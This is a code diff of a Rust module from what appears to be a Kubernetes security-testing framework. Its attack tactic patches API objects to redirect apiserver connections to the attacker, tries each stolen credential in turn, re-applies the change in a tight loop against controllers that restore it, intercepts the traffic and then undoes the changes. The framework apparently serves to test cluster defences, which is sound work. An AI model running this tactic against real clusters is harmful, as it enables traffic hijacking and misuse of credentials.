@@ -1,29 +1,31 @@
-//! The attacker changes the objects that say where the apiserver connects to, so that it is led to
-//! the attacker.
+//! The attacker changes the objects that say where connections lead, so that they are led to it.
 
 use super::Tactic;
-use super::spend::{Shown, for_ask, request};
+use super::spend::{self, Shown, for_ask, request};
 use super::terminate::{Terminate, Then};
 use crate::field::{Field, Probe};
 use crate::forge::Issuer;
 use crate::holdings::Held;
 use crate::intercept::Interception;
 use crate::notes::Notes;
+use crate::speak::Answer;
 use crate::target::{Ask, Claim, ServerKind, Speaks, Target};
 use async_trait::async_trait;
 use ravelin_oracle::{Attempt, Property};
-use serde_json::Value;
 use std::collections::BTreeMap;
 use std::net::{IpAddr, SocketAddr};
 use std::time::Duration;
 
-/// How long controllers get to notice a change.
+/// How long controllers and service proxies get to notice a change.
 const NOTICE: Duration = Duration::from_secs(1);
 /// How often the attacker repeats its change.
 const AGAIN: Duration = Duration::from_millis(20);
 
 /// Claiming a server's address.
 pub struct ClaimAddress;
+
+/// A claim that was made, and with what.
+type Made<'a> = (&'a Claim, Option<Held>);
 
 #[async_trait(?Send)]
 impl Tactic for ClaimAddress {
@@ -36,8 +38,7 @@ impl Tactic for ClaimAddress {
         let Some(here) = field.holdings().address() else { return notes.finish() };
         let mut led = Vec::new();
         for claim in &target.claims {
-            let patch = claim.leading_to(here);
-            if let Some(with) = change(&notes, target, (claim, &patch)).await {
+            if let Some(with) = make(&notes, target, (claim, here)).await {
                 led.push((claim, with));
             }
         }
@@ -58,27 +59,33 @@ impl Tactic for ClaimAddress {
         }
         drop(interception);
         for (claim, with) in led {
-            // What cannot be put back shows in the uses that follow.
-            let _ = patch(&notes, target, (claim, &claim.undo, with.as_ref())).await;
+            for undo in &claim.undo {
+                // What cannot be put back shows in the uses that follow.
+                let _ = change(&notes, target, (undo, with.as_ref())).await;
+            }
         }
         tokio::time::sleep(NOTICE).await;
+        spend::spend(&notes, target).await;
         notes.finish()
     }
 }
 
 /// Whose objects these are puts them right again and again; so the attacker changes them again and
 /// again.
-async fn insist(notes: &Notes<'_>, target: &Target, (led, here): (&[(&Claim, Option<Held>)], IpAddr)) {
+async fn insist(notes: &Notes<'_>, target: &Target, (led, here): (&[Made<'_>], IpAddr)) {
     loop {
         tokio::time::sleep(AGAIN).await;
         claim_all(notes, target, (led, here)).await;
     }
 }
 
-async fn claim_all(notes: &Notes<'_>, target: &Target, (led, here): (&[(&Claim, Option<Held>)], IpAddr)) {
+/// Once more, as far as it is changes: what was created is there.
+async fn claim_all(notes: &Notes<'_>, target: &Target, (led, here): (&[Made<'_>], IpAddr)) {
     for (claim, with) in led {
-        // Where it fails once, it may succeed the next time.
-        let _ = patch(notes, target, (claim, &claim.leading_to(here), with.as_ref())).await;
+        for ask in claim.leading_to(here).filter(|ask| ask.method == "PATCH") {
+            // Where it fails once, it may succeed the next time.
+            let _ = change(notes, target, (&ask, with.as_ref())).await;
+        }
     }
 }
 
@@ -96,39 +103,39 @@ fn taking_over(field: &Field, target: &Target) -> Terminate {
 }
 
 /// Makes the change, without a credential or with one that the attacker holds: gives which.
-async fn change(notes: &Notes<'_>, target: &Target, (claim, to): (&Claim, &Value)) -> Option<Option<Held>> {
+async fn make(notes: &Notes<'_>, target: &Target, (claim, here): (&Claim, IpAddr)) -> Option<Option<Held>> {
     let flow = notes.field().flow(target.apiserver);
     let credentials = notes.field().credentials();
-    for held in std::iter::once(None).chain(credentials.into_iter().map(Some)) {
+    'credentials: for held in std::iter::once(None).chain(credentials.into_iter().map(Some)) {
         let with = held.as_ref().map_or("no credential", |held| held.what.as_str());
-        match patch(notes, target, (claim, to, held.as_ref())).await {
-            Some(status) if (200..300).contains(&status) => {
-                notes.tell(format!("{flow}: changed {} with {with}", claim.what));
-                return Some(held);
+        for ask in claim.leading_to(here) {
+            match change(notes, target, (&ask, held.as_ref())).await {
+                Some(answer) if answer.granted() => {}
+                Some(answer) => {
+                    notes.tell(format!("{flow}: wanted to change {} with {with}", claim.what));
+                    notes.refused_by_answer(&flow, &answer, aims(target));
+                    continue 'credentials;
+                }
+                None => {
+                    notes.tell(format!("{flow}: no answer"));
+                    continue 'credentials;
+                }
             }
-            Some(status) => {
-                notes.tell(format!("{flow}: wanted to change {} with {with}", claim.what));
-                notes.refused_by_status(&flow, status, aims(target));
-            }
-            None => notes.tell(format!("{flow}: no answer")),
         }
+        notes.tell(format!("{flow}: changed {} with {with}", claim.what));
+        return Some(held);
     }
     None
 }
 
-async fn patch(
-    notes: &Notes<'_>,
-    target: &Target,
-    (claim, to, held): (&Claim, &Value, Option<&Held>),
-) -> Option<u16> {
-    let wanted = Ask::patch(&claim.path, to, "where the apiserver connects to");
+async fn change(notes: &Notes<'_>, target: &Target, (wanted, held): (&Ask, Option<&Held>)) -> Option<Answer> {
     let shown = held.map_or_else(Shown::default, |held| Shown::of(&held.secret));
-    let asked = (for_ask(&wanted, target.apiserver), shown);
-    Some(request(notes, target.apiserver, Speaks::Https, asked).await.ok()?.status)
+    let asked = (for_ask(wanted, target.apiserver), shown);
+    request(notes, target.apiserver, Speaks::Https, asked).await.ok()
 }
 
-/// What is lost where the apiserver can be led to the attacker. To a kubelet nothing can be passed
-/// on, as the apiserver proves itself by a key.
+/// What is lost where connections can be led to the attacker. To a server that is proved who asks
+/// by a key nothing can be passed on.
 fn aims(target: &Target) -> &'static [Property] {
     match target.server {
         ServerKind::Workload => &[
